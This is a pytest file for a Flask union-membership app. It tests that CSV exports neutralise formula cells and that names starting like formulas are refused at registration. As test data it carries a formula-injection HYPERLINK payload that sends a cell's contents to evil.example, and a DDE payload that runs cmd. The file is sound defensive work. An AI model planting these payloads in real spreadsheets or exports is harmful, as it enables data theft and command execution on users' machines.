"""CSV formula injection: one writer neutralises formula cells in every CSV, and names that begin
like a formula are refused at registration (API and roster imports)."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy.orm import Session

from app.models import Job, Member, Union
from app.services.csv_out import CsvOut, neutralise
from app.services.registry import imports
from tests.app.roster_fixtures import people, to_csv
from tests.app.test_errors import assert_problem

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
CALC = "=cmd|' /C calc'!A"
FORMULAS = [HYPERLINK, CALC, "+SUM(A1)", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_text_beginning_with_a_formula_trigger_gets_a_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Nguyễn Thị Kim Yến", "'=already quoted", "", "a=b", " x"])
def test_ordinary_text_is_unchanged(cell: str) -> None:
    assert neutralise(cell) == cell


def test_numbers_stay_numbers_and_text_that_looks_like_one_is_quoted() -> None:
    assert [neutralise(v) for v in (-5, 3, -1.5, None)] == [-5, 3, -1.5, None]
    assert neutralise("-5") == "'-5"
    assert neutralise("+84912345678") == "'+84912345678"


def test_the_writer_writes_a_bom_a_header_and_neutralised_rows() -> None:
    out = io.StringIO()
    writer = CsvOut(out, ("row", "name", "phone"))
    writer.row((3, CALC, "+84912345678"))
    writer.record({"name": HYPERLINK, "row": -4, "other": "=ignored"})
    text = out.getvalue()
    assert text.startswith("\ufeffrow,name,phone\r\n")
    assert list(csv.reader(io.StringIO(text[1:])))[1:] == [
        ["3", "'" + CALC, "'+84912345678"], ["-4", "'" + HYPERLINK, ""]]
    again = io.StringIO()
    CsvOut(again, ("row", "name", "phone")).row(list(csv.reader(io.StringIO(text[1:])))[1])
    assert list(csv.reader(io.StringIO(again.getvalue()[1:])))[1][1] == "'" + CALC


def test_every_csv_in_the_app_is_written_by_csv_out() -> None:
    offenders = []
    for path in (ROOT / "app").rglob("*.py"):
        if path.name == "csv_out.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") and \
                    isinstance(node.value, ast.Name) and node.value.id == "csv":
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
            if isinstance(node, ast.ImportFrom) and node.module == "csv" and any(
                    a.name in ("writer", "DictWriter") for a in node.names):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert offenders == []


# -- refusal at registration --------------------------------------------------------------------

def _member_body(union: Any, **fields: Any) -> dict[str, Any]:
    body = {"full_name": "Lê Văn Đức", "birth_date": "17/05/1990", "sex": "M",
            "personal_id": "024090001234", "union_code": union.code}
    return {**body, **fields}


@pytest.mark.parametrize("name", [HYPERLINK, CALC, "+Tên", "-Tên", "@Tên", "\t=Tên"])
def test_member_names_beginning_like_a_formula_are_refused(
        client: FlaskClient, factory: Any, name: str) -> None:
    union = factory.union()
    headers = factory.headers(factory.user(province="24"))
    body = assert_problem(client.post("/api/v1/members", headers=headers,
                                      json=_member_body(union, full_name=name)),
                          422, "validation-error")
    assert [e["field"] for e in body["errors"]] == ["full_name"]
    member = factory.member(union)
    body = assert_problem(client.patch(f"/api/v1/members/{member.id}", headers=headers,
                                       json={"full_name": name}), 422, "validation-error")
    assert [e["field"] for e in body["errors"]] == ["full_name"]


@pytest.mark.parametrize("field", ["name", "employer", "industrial_park"])
def test_union_names_beginning_like_a_formula_are_refused(
        client: FlaskClient, factory: Any, field: str) -> None:
    headers = factory.headers(factory.user(province="24"))
    create = {"code": "CD-24-FORMULA", "name": "Công đoàn cơ sở Quế Võ", "province_code": "24",
              field: CALC}
    body = assert_problem(client.post("/api/v1/unions", headers=headers, json=create),
                          422, "validation-error")
    assert [e["field"] for e in body["errors"]] == [field]
    union = factory.union()
    body = assert_problem(client.patch(f"/api/v1/unions/{union.code}", headers=headers,
                                       json={field: "@Tên"}), 422, "validation-error")
    assert [e["field"] for e in body["errors"]] == [field]


# -- every CSV written --------------------------------------------------------------------------

def test_roster_import_reports_the_row_and_report_csv_neutralises_it(
        client: FlaskClient, factory: Any, session: Session, app: Flask,
        monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setitem(app.config, "JOBS_SYNC", True)
    monkeypatch.setitem(app.config, "IMPORT_DIR", str(tmp_path / "imports"))
    union = factory.union()
    headers = factory.headers(factory.user(province="24"))
    rows = people(4, union.code)
    rows[0]["full_name"] = HYPERLINK
    rows[2]["full_name"] = CALC
    form = {"file": (io.BytesIO(to_csv(rows).encode("utf-8")), "roster.csv")}
    job = client.post("/api/v1/imports", data=form, headers=headers,
                      content_type="multipart/form-data").get_json()
    assert job["counts"]["created"] == 2 and job["counts"]["errors"] == 2
    report = client.get(f"/api/v1/jobs/{job['id']}/report", headers=headers).get_json()
    assert {(i["row"], i["value"]) for i in report["items"]} == {(2, HYPERLINK), (4, CALC)}

    response = client.get(f"/api/v1/jobs/{job['id']}/report.csv", headers=headers)
    served = response.get_data(as_text=True)
    response.close()
    out = io.StringIO()
    imports.write_report_csv(session, session.get(Job, job["id"]), out)  # the CLI's report
    for text in (served, out.getvalue()):
        assert text.startswith("\ufeffrow,column,value,severity,reason\r\n")
        lines = list(csv.reader(io.StringIO(text[1:])))[1:]
        assert [(line[0], line[2]) for line in lines] == [("2", "'" + HYPERLINK),
                                                          ("4", "'" + CALC)]
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                   for line in lines for cell in line)


def test_letters_csv_neutralises_names_stored_before_the_refusal(
        client: FlaskClient, factory: Any, session: Session, app: Flask,
        monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setitem(app.config, "JOBS_SYNC", True)
    monkeypatch.setitem(app.config, "CARD_BATCH_WORKERS", 0)
    monkeypatch.setitem(app.config, "CARD_BATCH_DIR", str(tmp_path / "batches"))
    union = factory.union()
    members = [factory.member(union, full_name=name)
               for name in ("Lê Văn Đức", "Trần Thị Bích", "Phạm Minh Châu")]
    # data written before names were checked (or straight into the database)
    session.get(Member, members[0].id).full_name = HYPERLINK  # type: ignore[union-attr]
    session.get(Member, members[1].id).full_name = "@SUM(A1)"  # type: ignore[union-attr]
    session.get(Union, union.id).name = CALC  # type: ignore[union-attr]
    session.commit()
    headers = factory.headers(factory.user(province="24"))
    job = client.post("/api/v1/card-batches", json={"union_code": union.code},
                      headers=headers).get_json()
    assert job["status"] == "succeeded", job
    download = client.get(f"/api/v1/card-batches/{job['id']}/letters.csv", headers=headers)
    text = download.get_data(as_text=True)
    download.close()
    assert text.startswith("\ufeffmember_number,")
    rows = list(csv.DictReader(io.StringIO(text[1:])))
    assert {r["full_name"] for r in rows} == {"'" + HYPERLINK, "'@SUM(A1)", "Phạm Minh Châu"}
    assert {r["union_name"] for r in rows} == {"'" + CALC}
